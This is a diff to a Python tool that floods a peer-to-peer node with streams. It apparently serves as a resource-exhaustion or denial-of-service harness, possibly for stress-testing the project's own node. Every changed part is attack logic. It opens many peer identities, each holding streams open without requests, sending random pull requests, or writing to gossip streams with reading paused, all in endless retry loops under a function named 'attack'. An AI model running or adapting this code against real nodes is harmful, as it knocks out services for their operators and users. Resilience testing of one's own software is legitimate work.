@@ -18,8 +18,8 @@ import sys
 import tempfile
 import time
 from collections import Counter
-from collections.abc import Iterator
-from contextlib import contextmanager, suppress
+from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
+from contextlib import asynccontextmanager, closing, contextmanager, suppress
 from pathlib import Path
 from struct import pack
 from typing import Any
@@ -52,43 +52,35 @@ class Flooder:
         await node.connect(address)
         return cls(node, address.rpartition("/p2p/")[2])
 
-    async def half(self, protocol: str = PULL_STREAM) -> None:
+    async def half(self) -> None:
         """Hold one stream open without a request; another when it is closed."""
-        while True:
-            with suppress(TransportError, OSError, EOFError):
-                reader, writer = await self._node.open_stream(self._peer, protocol)
-                self.done["opened"] += 1
-                try:
-                    await reader.read(1)
-                finally:
-                    writer.close()
-                continue
-            self.done["failed"] += 1
-            await asyncio.sleep(0.1)
+        async with self._stream(PULL_STREAM) as (reader, _):
+            self.done["opened"] += 1
+            await reader.read(1)
 
     async def pulls(self) -> None:
-        while True:
-            with suppress(TransportError, OSError, EOFError):
-                reader, writer = await self._node.open_stream(self._peer, PULL_STREAM)
-                try:
-                    writer.write(pack(">I", 32) + os.urandom(32))
-                    answer = await reader.read(5)
-                    self.done["answered" if answer else "refused"] += 1
-                finally:
-                    writer.close()
-                continue
-            self.done["failed"] += 1
-            await asyncio.sleep(0.1)
+        async with self._stream(PULL_STREAM) as (reader, writer):
+            writer.write(pack(">I", 32) + os.urandom(32))
+            answer = await reader.read(5)
+            self.done["answered" if answer else "refused"] += 1
 
     async def unread(self) -> None:
+        async with self._stream(GOSSIP_STREAM) as (_, writer):
+            writer.transport.pause_reading()
+            writer.write(pack(">I", 0))
+            self.done["opened"] += 1
+            await asyncio.sleep(20)
+
+    @asynccontextmanager
+    async def _stream(self, protocol: str) -> AsyncIterator[Any]:
+        reader, writer = await self._node.open_stream(self._peer, protocol)
+        with closing(writer):
+            yield reader, writer
+
+    async def again_and_again(self, work: Callable[[], Awaitable[None]]) -> None:
         while True:
             with suppress(TransportError, OSError, EOFError):
-                _, writer = await self._node.open_stream(self._peer, GOSSIP_STREAM)
-                writer.transport.pause_reading()
-                writer.write(pack(">I", 0))
-                self.done["opened"] += 1
-                await asyncio.sleep(20)
-                writer.close()
+                await work()
                 continue
             self.done["failed"] += 1
             await asyncio.sleep(0.1)
@@ -127,13 +119,11 @@ async def attack(options: argparse.Namespace, folder: Path) -> Counter[str]:
     starting = [Flooder.start(folder, n, options.address) for n in range(options.keys)]
     flooders = await asyncio.gather(*starting)
     work: list[Any] = []
-    for flooder in flooders:
-        for _ in range(options.streams):
-            match options.kind:
-                case "calls":
-                    work.append(flooder.calls(options.rate))
-                case kind:
-                    work.append(getattr(flooder, kind)())
+    for flooder in flooders * options.streams:
+        if options.kind == "calls":
+            work.append(flooder.calls(options.rate))
+        else:
+            work.append(flooder.again_and_again(getattr(flooder, options.kind)))
     tasks = [asyncio.ensure_future(one) for one in work]
     print("ready", flush=True)
     await asyncio.wait(tasks, timeout=options.seconds)
